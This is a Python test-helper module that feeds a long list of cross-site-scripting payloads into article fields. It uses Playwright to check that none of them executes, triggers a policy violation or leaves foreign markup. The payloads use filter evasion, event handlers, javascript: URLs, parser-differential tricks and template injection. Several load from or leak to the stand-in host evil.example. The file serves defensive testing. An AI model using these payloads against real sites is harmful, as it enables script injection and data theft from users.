"""Texts that try to run as code, and how to tell that none did. For every place that shows what comes from outside."""

from collections.abc import Sequence

from playwright.sync_api import BrowserContext, Page

from index.article import Article

RUN = "window.pwned=1"
ELSEWHERE = "http://evil.example"

PAYLOADS: tuple[str, ...] = (
    # scripts, and ends of what they may stand in
    f"<script>{RUN}</script>",
    f"<SCRIPT\n>{RUN}</SCRIPT >",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<script src={ELSEWHERE}/x.js></script>",
    f"<script src=data:text/javascript,{RUN}></script>",
    f"</mark></p><script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"</textarea></title></style><script>{RUN}</script>",
    f"<!--><script>{RUN}</script>-->",
    f"<![CDATA[<script>{RUN}</script>]]>",
    f"<scr\u0000ipt>{RUN}</scr\u0000ipt>",
    # handlers
    f"<img src=x onerror='{RUN}'>",
    f'<img src="x" onerror="{RUN}" ',
    f"<img/src=x/onerror={RUN}>",
    f'"><svg onload={RUN}>',
    f"' autofocus onfocus='{RUN}' x='",
    f'" autofocus tabindex=1 onfocus="{RUN}" x="',
    f"` onmouseover=`{RUN}",
    f"<input autofocus onfocus={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}>",
    f"<body onload={RUN}>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<p style='animation: dots 1s' onanimationstart={RUN}>x</p>",
    f"<button popovertarget=p>x</button><div popover id=p onbeforetoggle={RUN}>y</div>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>",
    f"<svg><style><img src=x onerror={RUN}></style></svg>",
    # addresses that are code
    f"<a href='javascript:{RUN}'>x</a>",
    f"<a href='&#106;ava&Tab;script&colon;{RUN}'>x</a>",
    f"<math><mi xlink:href='javascript:{RUN}'>",
    f"<svg><a><set attributeName=href to='javascript:{RUN}'/><text y=20>x</text></a></svg>",
    f"<iframe src='javascript:parent.{RUN}'></iframe>",
    f"<form action='javascript:{RUN}'><button>x</button></form>",
    f"[x](javascript:{RUN})",
    f"javascript:{RUN}",
    f"data:text/html,<script>opener.{RUN}</script>",
    # other documents
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    f"<object data='data:text/html,<script>parent.{RUN}</script>'></object>",
    f'<embed src=\'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="parent.{RUN}"/>\'>',
    f"<base href='{ELSEWHERE}/'>",
    f"<meta http-equiv=refresh content='0;url={ELSEWHERE}/'>",
    f"<link rel=stylesheet href={ELSEWHERE}/x.css>",
    f"<style>@import '{ELSEWHERE}/x.css'</style>",
    f"<p style='background: url({ELSEWHERE}/leak.png)'>x</p>",
    f"![x]({ELSEWHERE}/leak.png)",
    # parsers that disagree
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={RUN}&gt;">',
    f"<svg></p><style><a id='</style><img src=x onerror={RUN}>'>",
    f"&lt;img src=x onerror={RUN}&gt;",
    f"&amp;lt;script&amp;gt;{RUN}&amp;lt;/script&amp;gt;",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    f"＜script＞{RUN}＜/script＞",
    "<plaintext>",
    # templates, and names that hide the page's own
    "${window.pwned = 1}",
    "`+(window.pwned=1)+`",
    "{{constructor.constructor('window.pwned=1')()}}",
    "{{#if true}}{{{constructor}}}{{/if}}{@html '<img src=x onerror=window.pwned=1>'}",
    "<% window.pwned = 1 %>#{window.pwned = 1}",
    "<a id=pwned href=x>x</a><form id=source><input name=querySelector></form>",
    "__proto__[pwned]=1&constructor.prototype.pwned=1",
)
"""Each would set `window.pwned`, load from elsewhere, or swallow the page around it."""

_WATCH = """
window.violations = [];
addEventListener("securitypolicyviolation", (event) => {
  window.violations.push(`${event.violatedDirective} ${event.blockedURI} ${event.sample}`);
});
"""
# The page's own parts have none of these but the form that renames a conversation;
# Gradio has its scripts in the head and none with a handler.
_FOUND = """() => {
  const bad = [...document.querySelectorAll(
    "body iframe, body object, body embed, body base, body meta, body link, body form:not(.renaming), body math,"
    + "body marquee,"
    + "body plaintext, body noscript, body video, body audio, gradio-app script, gradio-app img, gradio-app style"
  )].map((element) => element.outerHTML.slice(0, 200));
  for (const element of document.querySelectorAll("body *")) {
    for (const { name, value } of element.attributes) {
      if (name.startsWith("on") || /^\\s*(javascript|data|vbscript):/i.test(/href$|^src$/.test(name) ? value : "")) {
        bad.push(`${element.tagName} ${name}=${value.slice(0, 200)}`);
      }
    }
  }
  return bad;
}"""


def hostile(payload: str) -> Article:
    """An article that holds the payload wherever an article can."""
    return Article(
        id=payload.replace("\0", ""),  # a link cannot carry it
        title=payload,
        text=f"One. {payload}\n\nTwo.",
        source=payload,
        author=payload,
        url=payload,
        published_at=payload,
    )


def hostile_articles(payloads: Sequence[str] = PAYLOADS) -> tuple[Article, ...]:
    """An article for each payload."""
    return tuple(map(hostile, payloads))


def note_violations(context: BrowserContext) -> None:
    """Have the pages that this context will open note what their policy refuses."""
    context.add_init_script(_WATCH)


def assert_harmless(page: Page) -> None:
    """Nothing ran, nothing was stopped only by the policy, and no markup came from a text.

    The page's context must have been given to `note_violations`.
    """
    ran, refused, foreign = page.evaluate(f"[[window.pwned, ({{}}).pwned], window.violations, ({_FOUND})()]")
    assert ran == [None, None]
    assert refused == []
    assert foreign == [], foreign
